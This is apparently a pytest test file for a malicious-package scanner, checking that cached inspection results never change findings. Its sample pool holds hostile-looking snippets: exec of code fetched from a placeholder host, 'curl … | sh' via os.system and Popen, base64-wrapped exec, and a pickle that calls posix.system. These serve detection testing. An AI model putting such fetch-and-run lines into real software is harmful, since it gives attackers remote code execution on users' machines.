"""A memory changes how long an inspection takes, and nothing else."""

from __future__ import annotations

import io
import zipfile
from typing import TYPE_CHECKING

import msgspec
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from scanner import following
from scanner.archive import zip_members, zips
from scanner.inspect import inspect
from scanner.memory import MAX_LEARNED_BYTES, FunctionNote, Memory, ModuleNote
from scanner.model import encode
from scanner.ruleset import Ruleset
from tests.fixtures.artifacts import MALICIOUS, Artifact, benign_release, build_sdist, build_wheel

if TYPE_CHECKING:
    from collections.abc import Mapping

    from scanner.behaviour import Facts
    from scanner.view import ArtifactView

KEY = "engine and rules"

PAYLOAD = "import requests\ndef go():\n    exec(requests.get('https://host.invalid').text)\n"
#: Texts of which each says something else to the analysers, alone or together.
POOL = {
    "payload": PAYLOAD,
    "class": "import os\nclass A:\n    def go(self):\n        os.system('curl https://host.invalid | sh')\n",
    "heir": "from .payload import go\nfrom .klass import A\nclass B(A):\n    pass\nB().go()\n",
    "caller": "from .payload import go\ngo()\n",
    "middle": "from .payload import go\ndef step():\n    go()\n",
    "outer": "from .middle import step\nstep()\n",
    "handing on": "from .payload import go as do\n",
    "starter": "import subprocess\nsubprocess.Popen(['tool.exe', 'helper.sh'])\n",
    "layered": "import base64\nexec(base64.b64decode('aW1wb3J0IG9zCm9zLnN5c3RlbSgiZWNobyBtYXJrZXIiKQo='))\n",
    "giver": "from subprocess import Popen as start\nfrom pickle import loads as read\n",
    "taker": "from .middle import start\nstart('curl https://host.invalid | sh', shell=True)\n",
    "runner": "import runpy\nrunpy.run_path('notes.txt')\nexec(open('notes.txt').read())\n",
    "idle": "X = 1\n",
    "broken": "def f(:\n",
    "quality": "import pickle\nassert pickle.loads(b'x')\npassword = 'secret'\n",
    "disguised": "\u0435val = 1\nprint(\u0435val)\n",
}
NAMES = ("payload.py", "klass.py", "middle.py", "a.py", "b.py", "tests/test_a.py", "tool.exe", "helper.sh", "notes.txt")


@pytest.fixture(scope="module")
def rules() -> Ruleset:
    return Ruleset.load()


def learned(artifact: Artifact, rules: Ruleset) -> bytes:
    memory = Memory(KEY)
    inspect(artifact.data, artifact.filename, rules, memory)
    return memory.encoded()


def with_memory(artifact: Artifact, rules: Ruleset, known: bytes) -> bytes:
    return encode(inspect(artifact.data, artifact.filename, rules, Memory(KEY, known)))


def without(artifact: Artifact, rules: Ruleset) -> bytes:
    return encode(inspect(artifact.data, artifact.filename, rules))


ARTIFACTS = {
    **{name: Artifact(case.filename, case.data) for name, case in MALICIOUS.items()},
    **{f"twin of {name}": case.twin for name, case in MALICIOUS.items() if case.twin is not None},
    **dict(zip(("wheel", "sdist"), benign_release(), strict=True)),
}


@pytest.mark.parametrize("artifact", ARTIFACTS.values(), ids=ARTIFACTS)
def test_the_first_and_the_second_inspection_with_a_memory_give_what_one_without_gives(
    artifact: Artifact, rules: Ruleset
) -> None:
    plain = without(artifact, rules)
    first = Memory(KEY)
    assert encode(inspect(artifact.data, artifact.filename, rules, first)) == plain
    assert with_memory(artifact, rules, first.encoded()) == plain


def built(files: Mapping[str, str], version: str, *, is_wheel: bool) -> Artifact:
    own = {"pkg/__init__.py": "from . import a, b\n", **{f"pkg/{name}": text for name, text in files.items()}}
    if is_wheel:
        return build_wheel("pkg", version, own)
    setup = "from setuptools import setup\nimport pkg.a\nsetup(name='pkg')\n"
    return build_sdist("pkg", version, {**own, "setup.py": setup})


FILES = st.dictionaries(st.sampled_from(NAMES), st.sampled_from(sorted(POOL.values())), max_size=6)


@given(before=FILES, after=FILES, is_wheel=st.booleans(), was_wheel=st.booleans())
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_a_release_is_found_to_be_what_it_is_whatever_was_learned_of_the_one_before(
    before: dict[str, str], after: dict[str, str], *, is_wheel: bool, was_wheel: bool, rules: Ruleset
) -> None:
    # Half of the files stay: else there is nothing to remember.
    kept = dict(list(before.items())[::2])
    known = learned(built(before, "1.0", is_wheel=was_wheel), rules)
    release = built({**kept, **after}, "2.0", is_wheel=is_wheel)
    assert with_memory(release, rules, known) == without(release, rules)


def test_who_calls_an_unchanged_module_decides_what_it_does(rules: Ruleset) -> None:
    quiet = built({"payload.py": POOL["payload"], "a.py": POOL["middle"]}, "1.0", is_wheel=True)
    loud = built({"payload.py": POOL["payload"], "a.py": POOL["caller"]}, "1.1", is_wheel=True)
    assert without(loud, rules) != without(quiet, rules)
    assert with_memory(loud, rules, learned(quiet, rules)) == without(loud, rules)
    assert with_memory(quiet, rules, learned(loud, rules)) == without(quiet, rules)


def test_what_another_module_gives_a_name_decides_what_an_unchanged_module_does(rules: Ruleset) -> None:
    harmless = built({"middle.py": "def start(*_, **__): pass\n", "a.py": POOL["taker"]}, "1.0", is_wheel=True)
    giving = built({"middle.py": POOL["giver"], "a.py": POOL["taker"]}, "1.1", is_wheel=True)
    assert len(without(giving, rules)) > len(without(harmless, rules))
    assert with_memory(giving, rules, learned(harmless, rules)) == without(giving, rules)
    assert with_memory(harmless, rules, learned(giving, rules)) == without(harmless, rules)


@pytest.mark.parametrize(("module", "file"), [("starter", "tool.exe"), ("runner", "notes.txt")])
def test_which_files_lie_beside_it_decides_what_an_unchanged_module_does(
    module: str, file: str, rules: Ruleset
) -> None:
    there = built({"a.py": POOL[module], file: "data"}, "1.0", is_wheel=True)
    missing = built({"a.py": POOL[module]}, "1.1", is_wheel=True)
    seen = inspect(there.data, there.filename, rules).findings
    unseen = inspect(missing.data, missing.filename, rules).findings
    assert [(f.rule, f.severity) for f in seen] != [(f.rule, f.severity) for f in unseen]
    assert with_memory(there, rules, learned(missing, rules)) == without(there, rules)
    assert with_memory(missing, rules, learned(there, rules)) == without(missing, rules)


def test_members_that_are_known_are_neither_parsed_nor_walked_again(
    rules: Ruleset, monkeypatch: pytest.MonkeyPatch
) -> None:
    before = built(
        {"payload.py": POOL["payload"], "a.py": POOL["caller"], "b.py": POOL["quality"]}, "1", is_wheel=False
    )
    after = built({"payload.py": POOL["payload"], "a.py": POOL["caller"], "b.py": "X = 2\n"}, "2", is_wheel=False)
    known = learned(before, rules)
    parsed: list[str] = []
    real = following._walked

    def noted(facts: Facts, view: ArtifactView, ruleset: Ruleset) -> following.Followed:
        parsed.append(facts.member.name)
        return real(facts, view, ruleset)

    monkeypatch.setattr(following, "_walked", noted)
    inspect(after.data, after.filename, rules, Memory(KEY, known))
    assert parsed == ["pkg-2/pkg/b.py"]


def test_members_whose_packed_bytes_are_known_are_not_unpacked(rules: Ruleset, monkeypatch: pytest.MonkeyPatch) -> None:
    before = built({"payload.py": POOL["payload"], "b.py": POOL["quality"]}, "1", is_wheel=True)
    after = built({"payload.py": POOL["payload"], "b.py": "X = 2\n", "c.py": "Y = 3\n"}, "2", is_wheel=True)
    known, expected = learned(before, rules), without(after, rules)
    unpacked: list[str] = []
    real = zip_members.unpacked

    def noted(packed: memoryview, entry: zip_members.ZipEntry) -> bytes:
        unpacked.append(entry.name)
        return real(packed, entry)

    for module in (zip_members, zips):
        monkeypatch.setattr(module, "unpacked", noted)
    assert with_memory(after, rules, known) == expected
    assert {"pkg/b.py", "pkg/c.py", "pkg-2.dist-info/METADATA"} <= set(unpacked)
    assert "pkg/payload.py" not in unpacked


def test_a_member_that_was_packed_anew_is_known_by_what_it_unpacks_to(rules: Ruleset) -> None:
    before = built({"payload.py": POOL["payload"]}, "1", is_wheel=True)
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(before.data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as new:
        for entry in old.infolist():
            entry_data = old.read(entry)
            entry.compress_type = zipfile.ZIP_STORED
            new.writestr(entry, entry_data)
    memory = Memory(KEY, learned(before, rules))
    found = inspect(out.getvalue(), before.filename, rules, memory)
    assert encode(found) == encode(inspect(out.getvalue(), before.filename, rules))
    (fact,) = [fact for fact in found.members if fact.name == "pkg/payload.py"]
    assert memory.of(fact.name, fact.sha256).look is not None


def test_a_lie_about_what_packed_bytes_unpack_to_is_not_believed(rules: Ruleset) -> None:
    artifact = built({"payload.py": POOL["payload"]}, "1", is_wheel=True)
    memory = Memory(KEY, learned(artifact, rules))
    inspect(artifact.data, artifact.filename, rules, memory)
    for fact in inspect(artifact.data, artifact.filename, rules).members:
        memory.of(fact.name, fact.sha256).sha256 = "0" * 64
    assert with_memory(artifact, rules, memory.encoded()) == without(artifact, rules)


def test_a_script_in_which_nothing_is_hidden_is_not_opened_again(rules: Ruleset) -> None:
    artifact = built({"page.js": "function go() { return 1; }\n", "data.json": "{}\n"}, "1", is_wheel=True)
    memory = Memory(KEY)
    found = inspect(artifact.data, artifact.filename, rules, memory)
    notes = {fact.name: memory.of(fact.name, fact.sha256) for fact in found.members}
    assert notes["pkg/page.js"].shut is not None
    assert notes["pkg/data.json"].shut is not None


@pytest.mark.parametrize("second", ["model.pt", "model.onnx"])
def test_what_running_code_names_is_found_whatever_was_named_before(second: str, rules: Ruleset) -> None:
    """Known is what a text named, among the endings that mattered then."""
    acting = b"\x80\x02cposix\nsystem\nX\x02\0\0\0ls\x85R."
    loads = {"a.py": "import torch\ntorch.load('model.pt')\ntorch.load('model.onnx')\n"}
    artifacts = []
    for version, files in (("1", {"pkg/model.pt": acting}), ("2", {f"pkg/{second}": acting, "pkg/x.odd": b"\0"})):
        texts = {"pkg/__init__.py": "from . import a\n", **{f"pkg/{name}": text for name, text in loads.items()}}
        artifacts.append(build_wheel("pkg", version, {**texts, **files}))
    known = learned(artifacts[0], rules)
    assert with_memory(artifacts[1], rules, known) == without(artifacts[1], rules)
    assert b'"role":"import"' in with_memory(artifacts[1], rules, known)


@given(damage=st.binary(max_size=40), at=st.integers(0, 4000), length=st.integers(0, 200))
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_a_damaged_memory_breaks_nothing(damage: bytes, at: int, length: int, rules: Ruleset) -> None:
    """It may say other things of the members that it knows, as its writer might have: it ends nothing."""
    artifact = built({"payload.py": POOL["payload"], "a.py": POOL["caller"]}, "1.0", is_wheel=True)
    known = learned(artifact, rules)
    harmed = known[: at % len(known)] + damage + known[at % len(known) + length :]
    found = inspect(artifact.data, artifact.filename, rules, Memory(KEY, harmed))
    assert [fact.name for fact in found.members]


@pytest.mark.parametrize("known", [b"", b"\0", b"{}", b"\x93", b"x" * (MAX_LEARNED_BYTES + 1)])
def test_what_cannot_be_read_is_as_if_it_were_not_there(known: bytes, rules: Ruleset) -> None:
    artifact = ARTIFACTS["wheel"]
    assert with_memory(artifact, rules, known) == without(artifact, rules)


def test_a_memory_of_another_engine_or_ruleset_is_not_used(rules: Ruleset) -> None:
    artifact = built({"a.py": POOL["payload"]}, "1.0", is_wheel=True)
    other = Memory("another engine", learned(artifact, rules))
    assert other.of("pkg/a.py", inspect(artifact.data, artifact.filename, rules).members[1].sha256).look is None


@pytest.mark.parametrize(
    "module",
    [
        ModuleNote((FunctionNote("go", (7,)),), (-1,), (), (), (), (), (), ()),
        ModuleNote((FunctionNote("go", ()),), (-1, -3), (), (), (), (), (), ()),
        ModuleNote((FunctionNote("a", ()), FunctionNote("b", ())), (-1,), (), (("x", (-1,)),), (), (), (), ("a",)),
    ],
    ids=["a caller that is not there", "a number below all", "a function too many"],
)
def test_functions_that_the_module_does_not_have_are_not_believed(module: ModuleNote, rules: Ruleset) -> None:
    artifact = built({"payload.py": POOL["payload"], "a.py": POOL["caller"]}, "1.0", is_wheel=True)
    memory = Memory(KEY)
    inspect(artifact.data, artifact.filename, rules, memory)
    for fact in inspect(artifact.data, artifact.filename, rules).members:
        note = memory.of(fact.name, fact.sha256)
        if note.module is not None:
            note.module, note.acted = module, None
    assert with_memory(artifact, rules, memory.encoded()) == without(artifact, rules)


def test_how_the_work_went_is_not_remembered(rules: Ruleset, monkeypatch: pytest.MonkeyPatch) -> None:
    artifact = built({"a.py": POOL["payload"]}, "1.0", is_wheel=True)

    def boom(*_: object) -> None:
        raise MemoryError

    with monkeypatch.context() as patched:
        patched.setattr(type(rules), "match", boom)
        known = learned(artifact, rules)
    assert with_memory(artifact, rules, known) == without(artifact, rules)


def test_nothing_is_written_that_would_not_be_read() -> None:
    memory = Memory(KEY)
    for number in range(3):
        note = memory.of(f"m{number}.py", msgspec.json.decode('"0"', type=str))  # type: ignore[arg-type]
        note.is_python = True
        note.idle = number % 2 == 0
    memory._key = "k" * MAX_LEARNED_BYTES
    assert memory.encoded() == b""
